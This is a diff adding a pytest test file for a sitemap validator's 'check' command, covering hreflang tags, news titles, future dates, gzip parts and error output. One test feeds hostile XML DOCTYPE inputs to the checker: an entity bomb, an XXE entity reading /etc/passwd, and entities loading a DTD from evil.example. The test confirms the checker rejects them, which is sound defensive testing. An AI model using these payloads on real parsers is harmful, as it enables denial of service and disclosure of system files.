@@ -1,0 +1,356 @@
+"""``check`` to what engines require: rules the schemas leave out, messages that name the
+real problem, and where problems are printed.
+
+Each sitemap is written by hand, so that one case breaks one rule; the pages it lists are in
+the checked folder.
+"""
+
+from __future__ import annotations
+
+import errno
+import gzip
+import json
+import os
+import signal
+from datetime import datetime, timezone
+from pathlib import Path
+
+import pytest
+
+from sitemap_plugins import SitemapConfig
+from sitemap_plugins.check import check_site
+from sitemap_plugins.cli import main
+
+BASE = "https://example.org/"
+NOW = datetime(2024, 5, 7, 12, tzinfo=timezone.utc)
+DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n'
+NAMESPACES = ('xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
+              'xmlns:xhtml="http://www.w3.org/1999/xhtml" '
+              'xmlns:news="http://www.google.com/schemas/sitemap-news/0.9"')
+PAGE = "<!doctype html><html lang='en'><head><title>{name}</title>{head}</head><body></body>"
+
+
+def _site(tmp_path: Path, urls: str, *, heads: dict[str, str] | None = None,
+          name: str = "sitemap.xml") -> Path:
+    """A site of pages a.html, b.html and fr.html and a urlset of ``urls`` in ``name``."""
+    site = tmp_path / "site"
+    site.mkdir(exist_ok=True)
+    for page in ("a", "b", "fr"):
+        head = (heads or {}).get(page, "")
+        (site / f"{page}.html").write_text(PAGE.format(name=page, head=head), "utf-8")
+    (site / name).write_text(f"{DECLARATION}<urlset {NAMESPACES}>\n{urls}</urlset>\n", "utf-8")
+    return site
+
+
+def _problems(site: Path, **now: datetime) -> list[tuple[str, bool]]:
+    """Each problem's line and whether it is a warning (``now=``: the check's day)."""
+    problems, _ = check_site(site, SitemapConfig.from_mapping({"base_url": BASE}), **now)
+    return [(str(problem), getattr(problem, "warning", False)) for problem in problems]
+
+
+def _errors(site: Path, **now: datetime) -> list[str]:
+    return [line for line, warning in _problems(site, **now) if not warning]
+
+
+NEWS = ("<news:news><news:publication><news:name>Daily</news:name><news:language>en"
+        "</news:language></news:publication><news:publication_date>2024-05-06"
+        "</news:publication_date>{title}</news:news>")
+
+
+# --- passed, but wrong -----------------------------------------------------------------------
+
+@pytest.mark.parametrize("title", ["", "<news:title></news:title>", "<news:title> \n</news:title>"],
+                         ids=["missing", "empty", "blank"])
+@pytest.mark.parametrize("where", ["sitemap.xml", "sitemap-news.xml"])
+def test_a_news_entry_needs_a_title_wherever_it_stands(tmp_path: Path, title: str,
+                                                      where: str) -> None:
+    """Google News requires news:title, which sitemap-news.xsd leaves optional: an entry
+    without one fails, in the news sitemap or in sitemap.xml."""
+    url = f"<url><loc>{BASE}a.html</loc>{NEWS.format(title=title)}</url>\n"
+    site = _site(tmp_path, url if where == "sitemap.xml" else f"<url><loc>{BASE}a.html</loc></url>")
+    if where == "sitemap-news.xml":
+        _site(tmp_path, url, name=where)
+    errors = _errors(site)
+    assert [line for line in errors if "news:title is missing or empty" in line], errors
+    assert all(line.startswith(f"{where}: ") for line in errors), errors
+    assert _errors(_site(tmp_path, f"<url><loc>{BASE}a.html</loc>"
+                                   f"{NEWS.format(title='<news:title>T</news:title>')}</url>",
+                         name=where)) == []
+
+
+BAD_HREFLANGS = ["english", "deutsch", "en_US", "e n", "", "en-", "12", "fr-FRANCE-",
+                 "x-", "i-", "x" * 80]
+GOOD_HREFLANGS = ["en", "fr", "en-GB", "zh-Hant-TW", "es-419", "x-default", "sr-Latn-RS"]
+
+
+def _alternates(code: str) -> str:
+    return (f'<url><loc>{BASE}a.html</loc>'
+            f'<xhtml:link rel="alternate" hreflang="{code}" href="{BASE}a.html"/>'
+            f'<xhtml:link rel="alternate" hreflang="de" href="{BASE}fr.html"/></url>\n'
+            f'<url><loc>{BASE}fr.html</loc>'
+            f'<xhtml:link rel="alternate" hreflang="{code}" href="{BASE}a.html"/>'
+            f'<xhtml:link rel="alternate" hreflang="de" href="{BASE}fr.html"/></url>\n')
+
+
+@pytest.mark.parametrize("code", BAD_HREFLANGS)
+def test_an_hreflang_that_is_no_language_tag_fails(tmp_path: Path, code: str) -> None:
+    """``english`` fits xs:language but is no BCP 47 tag an engine reads: check fails it."""
+    errors = _errors(_site(tmp_path, _alternates(code)))
+    assert any("is not a BCP 47 language tag" in line for line in errors), errors
+
+
+@pytest.mark.parametrize("code", GOOD_HREFLANGS)
+def test_a_language_tag_passes_as_hreflang(tmp_path: Path, code: str) -> None:
+    """Language tags of every shape engines take pass."""
+    assert _errors(_site(tmp_path, _alternates(code))) == []
+
+
+@pytest.mark.parametrize("fragment", ["#top", "#", "#a/b?c"])
+def test_a_listed_url_with_a_fragment_fails(tmp_path: Path, fragment: str) -> None:
+    """A <loc> (and a line of the text sitemap) naming a place in a page is no page URL."""
+    site = _site(tmp_path, f"<url><loc>{BASE}a.html{fragment}</loc></url>\n")
+    (site / "sitemap.txt").write_text(f"{BASE}a.html{fragment}\n", "utf-8")
+    errors = _errors(site)
+    assert [line.split(":", 1)[0] for line in errors if "has a fragment" in line] == [
+        "sitemap.xml", "sitemap.txt"], errors
+
+
+@pytest.mark.parametrize("date", ["2054-05-07", "2024-05-09", "2024-05-08T13:00:01Z",
+                                  "9999-12-31T23:59:59+14:00"])
+@pytest.mark.parametrize("element", ["lastmod", "index-lastmod", "news"])
+def test_a_date_in_the_future_fails(tmp_path: Path, date: str, element: str) -> None:
+    """A lastmod (of a page or of an index's part) or a news date more than a day after the
+    check's day fails; one within the day passes."""
+    def urlset(when: str) -> str:
+        if element == "news":
+            news = NEWS.format(title="<news:title>T</news:title>").replace("2024-05-06", when)
+            return f"<url><loc>{BASE}a.html</loc>{news}</url>\n"
+        lastmod = f"<lastmod>{when}</lastmod>" if element == "lastmod" else ""
+        return f"<url><loc>{BASE}a.html</loc>{lastmod}</url>\n"
+
+    def site_with(when: str) -> Path:
+        if element != "index-lastmod":
+            return _site(tmp_path, urlset(when))
+        site = _site(tmp_path, urlset(when), name="sitemap-1.xml")
+        (site / "sitemap.xml").write_text(
+            f'{DECLARATION}<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
+            f"<sitemap><loc>{BASE}sitemap-1.xml</loc><lastmod>{when}</lastmod></sitemap>"
+            "</sitemapindex>\n", "utf-8")
+        return site
+
+    errors = _errors(site_with(date), now=NOW)
+    assert [line for line in errors if "lies in the future" in line], errors
+    assert _errors(site_with("2024-05-08T11:00:00Z"), now=NOW) == []
+    if date > "2050":  # without now=, the clock's own now
+        assert [line for line in _errors(site_with(date)) if "lies in the future" in line]
+
+
+@pytest.mark.parametrize("robots", ["noindex", "NOINDEX, follow", "none", "index,noindex"])
+def test_a_listed_page_that_says_noindex_fails(tmp_path: Path, robots: str) -> None:
+    """A listed page whose own robots meta tag says noindex: engines report it as an error."""
+    site = _site(tmp_path, f"<url><loc>{BASE}a.html</loc></url>\n<url><loc>{BASE}b.html</loc>"
+                           "</url>\n",
+                 heads={"a": f"<meta name='robots' content='{robots}'>"})
+    errors = _errors(site)
+    assert errors == [(f"sitemap.xml: <url> #1 ({BASE}a.html): the page 'a.html' says noindex "
+                      "in its robots meta tag; a sitemap lists only pages to index")]
+
+
+@pytest.mark.parametrize(("href", "elsewhere"), [
+    ("b.html", True), (f"{BASE}b.html", True), ("https://other.example/a.html", True),
+    ("a.html", False), (f"{BASE}a.html", False), ("./a.html#top", False),
+    ("HTTPS://EXAMPLE.ORG/a.html", False)])
+def test_a_listed_page_whose_canonical_names_another_is_a_warning(
+    tmp_path: Path, href: str, *, elsewhere: bool
+) -> None:
+    """A listed page whose canonical names another page is reported (a warning: engines
+    leave it out as a duplicate); a canonical naming the page itself is not."""
+    site = _site(tmp_path, f"<url><loc>{BASE}a.html</loc></url>\n",
+                 heads={"a": f"<link rel='canonical' href='{href}'>"})
+    problems = _problems(site)
+    warned = [line for line, warning in problems if warning and "canonical" in line]
+    assert bool(warned) is elsewhere, problems
+    assert [line for line, warning in problems if not warning] == []
+
+
+# --- messages that name the real problem -----------------------------------------------------
+
+BILLION_LAUGHS = (
+    '<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">\n'
+    ' <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">\n]>\n')
+XXE = '<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
+PARAMETER = '<!DOCTYPE urlset [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>\n'
+QUOTED = "<!DOCTYPE urlset [<!ENTITY a \"]>\"> <!ENTITY b '>'>]>\n"
+
+
+@pytest.mark.parametrize("doctype", [BILLION_LAUGHS, XXE, PARAMETER, QUOTED,
+                                     '<!DOCTYPE urlset SYSTEM "http://evil.example/x.dtd">\n'],
+                         ids=["billion-laughs", "xxe", "parameter-entity", "quoted", "external"])
+def test_a_doctype_is_named_as_such(tmp_path: Path, doctype: str) -> None:
+    """Entity bombs and external entities are reported as a DOCTYPE, the one problem, not as
+    text that is not entity-escaped."""
+    site = _site(tmp_path, "")
+    (site / "sitemap.xml").write_text(
+        f"{DECLARATION}{doctype}<urlset {NAMESPACES}><url><loc>{BASE}a.html&lol3;&xxe;</loc>"
+        "</url></urlset>\n", "utf-8")
+    errors = _errors(site)
+    assert len(errors) == 1, errors
+    assert "has a DOCTYPE" in errors[0]
+    assert "entities" in errors[0]
+
+
+@pytest.mark.parametrize("damage", ["not-gzip", "truncated", "bad-crc"])
+def test_a_corrupt_gz_part_is_named_as_gzip(tmp_path: Path, damage: str) -> None:
+    """An index naming a .gz part that does not inflate says so, not "not UTF-8"."""
+    site = _site(tmp_path, "")
+    packed = gzip.compress(f"{DECLARATION}<urlset {NAMESPACES}><url><loc>{BASE}a.html</loc>"
+                           "</url></urlset>\n".encode(), mtime=0)
+    data = {"not-gzip": b"\x1f\x8b\x08garbage" + bytes(range(256)),
+            "truncated": packed[: len(packed) // 2],
+            "bad-crc": packed[:-8] + b"\0\0\0\0" + packed[-4:]}[damage]
+    (site / "sitemap-1.xml.gz").write_bytes(data)
+    (site / "sitemap.xml").write_text(
+        f'{DECLARATION}<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
+        f"<sitemap><loc>{BASE}sitemap-1.xml.gz</loc></sitemap></sitemapindex>\n", "utf-8")
+    errors = _errors(site)
+    assert [line for line in errors if line.startswith("sitemap-1.xml.gz: is not a valid gzip "
+                                                       "file")], errors
+    assert not [line for line in errors if "UTF-8" in line], errors
+
+
+def test_a_good_gz_part_is_read(tmp_path: Path) -> None:
+    """A .gz part of an index is inflated and its URLs checked like any part."""
+    site = _site(tmp_path, "")
+    (site / "sitemap-1.xml.gz").write_bytes(gzip.compress(
+        f"{DECLARATION}<urlset {NAMESPACES}><url><loc>{BASE}a.html</loc></url><url><loc>"
+        f"{BASE}missing.html</loc></url></urlset>\n".encode(), mtime=0))
+    (site / "sitemap.xml").write_text(
+        f'{DECLARATION}<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
+        f"<sitemap><loc>{BASE}sitemap-1.xml.gz</loc></sitemap></sitemapindex>\n", "utf-8")
+    assert _errors(site) == [(f"sitemap-1.xml.gz: <url> #2 ({BASE}missing.html): no file in "
+                             f"the site serves '{BASE}missing.html'")]
+
+
+@pytest.mark.parametrize("loc", ["HTTPS://EXAMPLE.ORG/a.html", "https://Example.Org/a.html",
+                                 "Https://example.ORG/a.html"])
+def test_scheme_and_host_in_any_case_are_the_same_url(tmp_path: Path, loc: str) -> None:
+    """Scheme and host are case-insensitive: such a <loc> is the page's URL, and a second
+    spelling of it is a duplicate."""
+    assert _errors(_site(tmp_path, f"<url><loc>{loc}</loc></url>\n")) == []
+    errors = _errors(_site(tmp_path, f"<url><loc>{loc}</loc></url>\n<url><loc>{BASE}a.html"
+                                     "</loc></url>\n"))
+    assert len(errors) == 1
+    assert "duplicate URL" in errors[0]
+
+
+# --- an unreadable folder, a byte order mark ------------------------------------------------
+
+@pytest.mark.parametrize("call", ["stat", "scandir"])
+def test_a_folder_check_may_not_read_is_one_line(tmp_path: Path, call: str,
+                                                 monkeypatch: pytest.MonkeyPatch,
+                                                 capsys: pytest.CaptureFixture[str]) -> None:
+    """A site folder that cannot be entered or listed: exit 1, one line saying so, no
+    traceback, never "sitemap.xml is missing". (Denied by hand: root reads everything.)"""
+    site = _site(tmp_path, f"<url><loc>{BASE}a.html</loc></url>\n")
+    real = getattr(os, call)
+
+    def denied(path: object, *args: object, **kwargs: object) -> object:
+        if os.fspath(path) in (str(site), os.fspath(site)):  # type: ignore[arg-type]
+            raise PermissionError(errno.EACCES, "Permission denied", os.fspath(path))  # type: ignore[arg-type]
+        return real(path, *args, **kwargs)
+
+    monkeypatch.setattr(os, call, denied)
+    code = main(["check", str(site), "--base-url", BASE])
+    monkeypatch.undo()
+    out, err = capsys.readouterr()
+    assert code == 1
+    assert err.splitlines() == [(f"error: {site}: cannot be read: Permission denied; check "
+                                "needs to read the site folder")], err
+    assert "Traceback" not in out + err
+
+
+@pytest.mark.parametrize("name", ["sitemap.xml", "sitemap.txt"])
+def test_a_byte_order_mark_is_a_warning(tmp_path: Path, name: str,
+                                        capsys: pytest.CaptureFixture[str]) -> None:
+    """A UTF-8 byte order mark is allowed by XML and read by engines: a warning, exit 0."""
+    site = _site(tmp_path, f"<url><loc>{BASE}a.html</loc></url>\n")
+    (site / "sitemap.txt").write_text(f"{BASE}a.html\n", "utf-8")
+    (site / name).write_bytes(b"\xef\xbb\xbf" + (site / name).read_bytes())
+    assert main(["check", str(site), "--base-url", BASE]) == 0
+    out, err = capsys.readouterr()
+    assert err.startswith(f"warning: {name}: starts with a byte order mark"), err
+    assert out == "Checked 1 URL: no problems, 1 warning\n"
+    assert main(["check", str(site), "--base-url", BASE, "--json"]) == 0
+    report = json.loads(capsys.readouterr().out)
+    assert report["ok"] is True
+    assert [p["level"] for p in report["problems"]] == ["warning"]
+
+
+# --- where problems go ----------------------------------------------------------------------
+
+@pytest.mark.parametrize("json_flag", [[], ["--json"]], ids=["text", "json"])
+def test_problems_go_to_stderr_and_the_summary_to_stdout(
+    tmp_path: Path, json_flag: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    """As --help and the docs say: problems on stderr, so ``check --json > report.json``
+    still shows them in a CI log; stdout holds only the summary (one JSON object)."""
+    site = _site(tmp_path, f"<url><loc>{BASE}missing.html</loc></url>\n")
+    assert main(["check", str(site), "--base-url", BASE, *json_flag]) == 1
+    out, err = capsys.readouterr()
+    problem = f"sitemap.xml: <url> #1 ({BASE}missing.html): no file in the site serves"
+    assert err.startswith(problem), err
+    assert problem not in out
+    if json_flag:
+        report = json.loads(out)
+        assert report["ok"] is False
+        assert [p["level"] for p in report["problems"]] == ["error"]
+    else:
+        assert out == "Checked 1 URL: 1 problem\n"
+
+
+# --- never a hang ---------------------------------------------------------------------------
+
+@pytest.mark.parametrize("filler", ["<", "<a ", '<a "', "<!--", "<?x", "<![CDATA[", "<!x '"],
+                         ids=["lt", "tag", "quote", "comment", "pi", "cdata", "declaration"])
+def test_a_megabyte_of_unclosed_markup_is_read_at_once(tmp_path: Path, filler: str) -> None:
+    """Unclosed markup repeated over a megabyte (minutes once: the escape scan was quadratic)
+    is reported as not well-formed within seconds."""
+    site = _site(tmp_path, "")
+    (site / "sitemap.xml").write_text(
+        f"{DECLARATION}<urlset {NAMESPACES}>" + filler * (1_000_000 // len(filler)), "utf-8")
+
+    def stop(_signal: int, _frame: object) -> None:
+        pytest.fail("check took more than 20 s: not linear")
+
+    previous = signal.signal(signal.SIGALRM, stop)
+    signal.alarm(20)
+    try:
+        errors = _errors(site)
+    finally:
+        signal.alarm(0)
+        signal.signal(signal.SIGALRM, previous)
+    assert [line for line in errors if "is not well-formed XML" in line], errors
+
+
+def test_a_byte_order_mark_does_not_hide_a_missing_declaration(tmp_path: Path) -> None:
+    """After a byte order mark the XML declaration must still come first."""
+    site = _site(tmp_path, f"<url><loc>{BASE}a.html</loc></url>\n")
+    text = (site / "sitemap.xml").read_text("utf-8").removeprefix(DECLARATION)
+    (site / "sitemap.xml").write_bytes(b"\xef\xbb\xbf" + text.encode())
+    assert _errors(site) == [("sitemap.xml: does not start with the XML declaration after its "
+                             "byte order mark")]
+
+
+@pytest.mark.parametrize("element", ["content_loc", "player_loc"])
+def test_a_video_location_that_is_the_page_itself_fails(tmp_path: Path, element: str) -> None:
+    """Google: a video's content or player location must not be the page's own <loc>."""
+    video = ('<video:video xmlns:video="http://www.google.com/schemas/sitemap-video/1.1">'
+             f"<video:thumbnail_loc>{BASE}p.jpg</video:thumbnail_loc><video:title>V"
+             "</video:title><video:description>D</video:description>"
+             f"<video:{element}>{{}}</video:{element}></video:video>")
+    errors = _errors(_site(tmp_path, f"<url><loc>{BASE}a.html</loc>"
+                                     f"{video.format(BASE + 'a.html')}</url>\n"))
+    assert errors == [(f"sitemap.xml: <url> #1 ({BASE}a.html): video:{element} is the page "
+                      "itself; Google requires the video's own URL")]
+    assert _errors(_site(tmp_path, f"<url><loc>{BASE}a.html</loc>"
+                                   f"{video.format(BASE + 'v.mp4')}</url>\n")) == []
